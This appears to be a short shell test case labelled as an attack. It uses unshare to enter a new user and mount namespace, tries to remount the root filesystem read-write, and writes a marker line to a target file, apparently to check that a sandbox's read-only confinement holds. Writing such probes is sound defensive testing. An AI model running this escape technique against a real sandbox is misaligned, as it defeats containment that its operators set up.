# attack: gain capabilities in a fresh user+mount namespace, remount / read-write there, then write outside
unshare -Urm sh -c 'mount -o remount,rw / 2>/dev/null; mount -o remount,rw,bind / 2>/dev/null; echo escaped >> "$TARGET"'
